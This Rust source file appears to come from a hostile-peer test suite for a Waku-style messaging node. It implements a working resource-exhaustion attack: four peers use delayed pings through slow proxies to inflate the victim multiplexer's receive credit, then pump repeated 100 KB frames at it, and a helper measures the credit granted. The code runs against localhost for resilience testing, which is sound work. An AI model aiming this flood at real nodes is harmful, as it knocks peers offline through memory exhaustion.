//! Number 9: a peer whose pings are late makes the victim's multiplexer grant it ever more receive credit,
//! which is memory as soon as the victim does not keep up.

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use futures::FutureExt as _;
use tokio::time::timeout;

use super::{Attack, Price, b8_bad_proofs, nothing};
use crate::hostile::peer::Peer;
use crate::hostile::proxy::Proxy;
use crate::hostile::stage::prefix;
use crate::hostile::{HostileError, Stage, Tasks, rpc};

/// Connections that are pumped full.
const PUMPS: u8 = 4;
/// How late every byte is, each way.
const DELAY: Duration = Duration::from_millis(500);
/// Bytes of a frame: one message that the victim knows already.
const FRAME_BYTES: usize = 100_000;
/// Bytes of each pump at most, and for how long.
const BYTES_MAX: u64 = 2 << 30;
const TIME_MAX: Duration = Duration::from_secs(600);
/// How long the attack goes on before messages are counted.
const RISING: Duration = Duration::from_secs(5);
/// How long a suspended victim has to take no more bytes.
const STALLED: Duration = Duration::from_secs(3);
/// Credit that is not measured any further, bytes.
const CREDIT_MAX: u64 = 512 << 20;

/// The attack.
pub const ATTACK: Attack = Attack {
    name: "b9-credit",
    about: "4 connections with late pings, pumped full at any rate, beside the bad proofs of b8",
    price: Price::Addresses(8),
    options: b8_bad_proofs::options,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut Stage) -> Result<Tasks, HostileError> {
    let mut tasks = b8_bad_proofs::begin(stage)?;
    for n in 0..PUMPS {
        // A victim that refuses it has that merit.
        if let Ok(pump) = Pump::connect(stage, n + 1).await {
            tasks.spawn(pump.run());
        }
    }
    tokio::time::sleep(RISING).await;
    Ok(tasks)
}

/// A peer behind a slow proxy, which sends one message again and again.
pub struct Pump {
    peer: Peer,
    frame: Vec<u8>,
}

impl Pump {
    /// Connects as the `number`th of its kind.
    pub async fn connect(stage: &Stage, number: u8) -> Result<Self, HostileError> {
        let source = Ipv4Addr::new(127, 0, 12, number);
        let victim = &stage.victim;
        let proxy = Proxy::slow(Ipv4Addr::LOCALHOST, victim.socket(), source, DELAY).await?;
        let mut peer = Peer::connect_through(proxy, victim.target()).await?;
        let topics = stage.topics();
        peer.subscribe(&topics).await;
        let content_topic = format!("{}/pumped-{number}/proto", prefix(0));
        let message = undertone_message::WakuMessage::new(vec![0; FRAME_BYTES], content_topic);
        Ok(Self {
            peer,
            frame: rpc::message(&topics[0], &message.encode()),
        })
    }

    /// Sends at any rate, until its bound or the end of the connection.
    pub async fn run(mut self) {
        self.pump(BYTES_MAX, TIME_MAX).await;
    }

    /// Sends so many bytes, or as many as are taken in so much time.
    pub async fn pump(&mut self, bytes: u64, time: Duration) {
        let until = Instant::now() + time;
        let mut taken = 0;
        while taken < bytes && Instant::now() < until && self.peer.send(&self.frame).await {
            taken += self.frame.len() as u64;
        }
    }

    /// How many bytes the connection takes while the victim is suspended: the credit that the victim has
    /// granted.
    pub async fn credit(&mut self, stage: &Stage) -> u64 {
        stage.victim.suspend();
        let mut taken = 0;
        while taken < CREDIT_MAX {
            match timeout(STALLED, self.peer.send(&self.frame)).await {
                Ok(true) => taken += self.frame.len() as u64,
                Ok(false) | Err(_) => break,
            }
        }
        stage.victim.resume();
        taken
    }
}
